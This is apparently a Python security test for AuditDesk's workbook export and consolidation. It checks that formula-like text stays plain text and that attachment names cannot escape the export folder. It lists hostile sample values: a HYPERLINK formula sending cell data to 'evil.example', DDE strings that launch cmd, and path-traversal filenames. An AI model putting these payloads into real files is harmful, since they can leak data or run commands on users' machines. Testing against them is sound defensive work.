"""Hostile input through what AuditDesk writes.

- Formula injection: answers and a site name starting with ``=``, ``+``, ``-``, ``@``
  go through the workbook export and consolidation; no worksheet of the export or of
  the master may hold a formula, and the text must arrive unchanged as text.
- Attachment names: an attachment named ``../../escape.jpg`` (and an absolute path)
  exported with the audit; no file may appear outside the files asked for.
"""

from __future__ import annotations

import io
import re
import tempfile
import zipfile
from pathlib import Path

from trials.report import Figure, not_yet

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
)
ABSOLUTE_NAME = str(Path(tempfile.gettempdir()) / "escape-attempt-abs.jpg")
ESCAPING_NAMES = ("../../escape-attempt.jpg", ABSOLUTE_NAME, "..\\..\\escape-attempt-win.jpg")
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def _formula_cells(workbook: Path) -> list[str]:
    found = []
    with zipfile.ZipFile(workbook) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and _FORMULA.search(archive.read(name)):
                found.append(f"{workbook.name}:{name} holds a formula")
    return found


def _texts(workbook: Path) -> set[str]:
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_filelike(io.BytesIO(workbook.read_bytes()))
    return {str(cell) for name in book.sheet_names
            for row in book.get_sheet_by_name(name).to_python() for cell in row}


def _hostile_audit(folder: Path) -> tuple[Path, Path, tuple[object, ...]]:
    """A real (non-training) audit full of formula-like text and escaping attachment names,
    exported signed; returns the workbook, the PDF and the trust roots."""
    from auditdesk import paths
    from auditdesk.domain import Audit, AuditType, FormRecord, RecordKind, Site, new_uuid
    from auditdesk.export.run import ExportRequest, export_audit
    from auditdesk.formengine import load_form
    from auditdesk.signing import KeyStore
    from auditdesk.storage import open_database

    identity = KeyStore(folder / "keys").create(
        name="Hostile Trial", org="Trials", email="h@example.org", passphrase="hostile trial key")
    form_path = paths.forms_dir() / "worker_interview.xlsx"
    definition = load_form(form_path)
    with open_database(folder / "hostile.sqlite", daily_backup=False) as repo:
        site = repo.add_site(Site(new_uuid(), INJECTIONS[0], INJECTIONS[1], "KE", INJECTIONS[2]))
        audit = repo.add_audit(Audit(new_uuid(), site.uuid, AuditType.ANNOUNCED))
        snapshot = repo.add_form_snapshot(audit.uuid, form_id=definition.form_id,
                                          version=definition.version, filename=form_path.name,
                                          content=form_path.read_bytes())
        record = repo.add_form_record(FormRecord(
            new_uuid(), audit.uuid, definition.form_id, definition.version,
            RecordKind.WORKER_INTERVIEW, "W-01", consent_given=True, snapshot_id=snapshot.id))
        repo.save_answer(record.uuid, "closing/other_concerns", INJECTIONS[0])
        repo.save_answer(record.uuid, "closing/auditor_notes", INJECTIONS[4])
        for name in ESCAPING_NAMES:
            repo.add_attachment(record.uuid, "closing/other_concerns", name, "image/jpeg",
                                b"\xff\xd8\xff\xe0 not really a photo", caption=INJECTIONS[3])
        out = folder / "out"
        out.mkdir()
        xlsx, pdf = out / "hostile.xlsx", out / "hostile.pdf"
        export_audit(repo, audit.uuid, ExportRequest(xlsx=xlsx, pdf=pdf, identity=identity))
    return xlsx, pdf, (identity.certificate,)


def run(workdir: Path) -> list[Figure]:
    from trials.audit_material import export_available

    waits = export_available()
    names = ("hostile: formula injection in exported and consolidated workbooks",
             "hostile: attachment names escaping the export folder")
    if waits:
        return [not_yet(name, "0", waits) for name in names]
    workdir.mkdir(parents=True, exist_ok=True)
    before = {p for p in workdir.parent.parent.rglob("*")} if workdir.parent.parent else set()
    xlsx, pdf, trust = _hostile_audit(workdir)
    problems = _formula_cells(xlsx)
    texts = _texts(xlsx)
    problems += [f"{xlsx.name}: {text!r} did not arrive as text"
                 for text in (INJECTIONS[0], INJECTIONS[4]) if text not in texts]
    checked = 1
    import importlib.util

    if importlib.util.find_spec("auditdesk.consolidate") is not None:
        from auditdesk.consolidate import consolidate

        master = workdir / "master.xlsx"
        consolidate([xlsx], master, trust_roots=list(trust))
        checked += 1
        problems += _formula_cells(master)
        master_texts = _texts(master)
        problems += [f"master: {text!r} did not arrive as text" for text in INJECTIONS[:3]
                     if text not in master_texts]
    after = set(workdir.parent.parent.rglob("*"))
    allowed = {xlsx, pdf, workdir / "master.xlsx"}
    escaped = sorted(
        str(p) for p in after - before
        if "escape-attempt" in p.name or (p.parent == xlsx.parent and p not in allowed)
    )
    escaped += [ABSOLUTE_NAME] if Path(ABSOLUTE_NAME).exists() else []
    return [
        Figure(names[0], checked, len(problems), "0", examples=tuple(problems)),
        Figure(names[1], len(ESCAPING_NAMES), len(escaped), "0", examples=tuple(escaped)),
    ]
